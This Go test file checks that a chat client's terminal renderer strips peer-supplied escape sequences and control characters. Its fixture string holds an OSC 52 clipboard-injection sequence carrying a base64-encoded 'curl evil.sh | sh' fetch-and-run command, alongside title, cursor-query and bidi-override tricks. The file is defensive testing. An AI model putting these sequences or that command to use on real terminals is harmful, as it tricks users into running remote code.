package cli

import (
	"context"
	"fmt"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	tea "github.com/charmbracelet/bubbletea"

	edgechat "github.com/edgechat/edgechat/clients/go"
	"github.com/edgechat/edgechat/internal/testutil"
)

// evil carries what a peer could put into a body or a name: OSC 52
// (write the victim's clipboard), OSC 0 (window title), a cursor
// position query (its answer lands in the input), a C1 CSI, a carriage
// return and a right-to-left override.
const evil = "hi \x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07\x1b]0;PWNED\x07\x1b[6n \u009b2J\rthere \u202eexe.txt"

// evilSeqs are evil's sequences (its carriage return aside: the
// renderer writes its own).
var evilSeqs = []string{"\x1b]52;c;", "\x1b]0;PWNED", "\x1b[6n", "\u009b2J", "\u202e"}

var sgr = regexp.MustCompile("\x1b\\[[0-9;]*m")

// Another user's message reaches the terminal without its escape
// sequences, in the chat pane and in the conversation list's preview.
func TestPeersEscapeSequencesNeverReachTheTerminal(t *testing.T) {
	fc := &fakeClient{}
	m := newModel(context.Background(), fc)
	out := &testutil.SyncBuffer{}
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	p := tea.NewProgram(m, tea.WithContext(ctx), tea.WithInput(nil), tea.WithOutput(out))
	done := make(chan error, 1)
	go func() { _, err := p.Run(); done <- err }()
	p.Send(tea.WindowSizeMsg{Width: 120, Height: 30})
	p.Send(incomingMsg(msg(50, "alice", "me", evil)))
	p.Send(tea.KeyMsg{Type: tea.KeyCtrlN})
	for _, r := range "alice" {
		p.Send(tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{r}})
	}
	p.Send(tea.KeyMsg{Type: tea.KeyEnter}) // opens the chat pane on it
	testutil.CheckFor(t, 5*time.Second, 10*time.Millisecond, func() error {
		// The chat pane shows it (the preview is cut before "there", and
		// the renderer rewrites only the lines that change).
		if got := out.String(); !strings.Contains(got, "there") || !strings.Contains(got, "PgUp for older") {
			return fmt.Errorf("the message is not on the screen yet: %q", got)
		}
		return nil
	})
	p.Send(tea.KeyMsg{Type: tea.KeyCtrlC})
	testutil.Receive(t, done, 5*time.Second)
	got := out.String()
	for _, seq := range evilSeqs {
		if strings.Contains(got, seq) {
			t.Errorf("terminal output contains the peer's %q", seq)
		}
	}
}

// Every piece of text other people chose comes out of the renderers
// free of control characters (newlines only where the chat pane indents
// them): bodies, media names and captions, senders, session agents and
// devices, servers' error messages in the status line.
func TestUntrustedTextIsRenderedWithoutControlCharacters(t *testing.T) {
	noControl := func(what, s string, newlines bool) {
		t.Helper()
		// lipgloss styles add SGR sequences (colours); nothing else may be there.
		for _, r := range sgr.ReplaceAllString(s, "") {
			if (unicode.IsControl(r) && !(r == '\n' && newlines)) || isBidiControl(r) {
				t.Errorf("%s: %q contains %U", what, s, r)
				return
			}
		}
	}
	m := newModel(context.Background(), &fakeClient{})
	m.width, m.height = 120, 30
	m.layout()

	body := msg(1, "alice", "me", evil+"\nline two\t(tab)")
	media := msg(2, "alice", "me", "caption "+evil)
	media.Type, media.Media = "media", &edgechat.MediaInfo{ID: "m1", Kind: "image", Name: "photo" + evil + ".jpg"}

	noControl("messageText", messageText(body), true)
	noControl("media messageText", messageText(media), true)
	noControl("preview", oneLine(messageText(body), 40), false)
	line := renderEntry(entry{Message: body}, "me")
	noControl("renderEntry", line, true)
	if lines := strings.Split(line, "\n"); len(lines) != 2 || !strings.HasPrefix(lines[1], continuationIndent+"line two") {
		t.Errorf("a body's second line is not indented under the sender: %q", lines)
	}
	failed := entry{Message: msg(3, "me", "alice", "x"), failed: "server said " + evil}
	noControl("failed entry", renderEntry(failed, "me"), false)

	m.st.receive(body)
	m.st.receive(media)
	m.st.openConv("alice")
	m.st.setPresence("alice", "online"+evil)
	m.st.status = formatSessions([]edgechat.Session{{ID: "s1", Agent: evil}, {ID: "s2", Device: "phone" + evil}}, time.Now())
	m.refresh()
	noControl("view", m.View(), true)
	m.st.status = "history: " + evil
	noControl("status", m.View(), true)
}
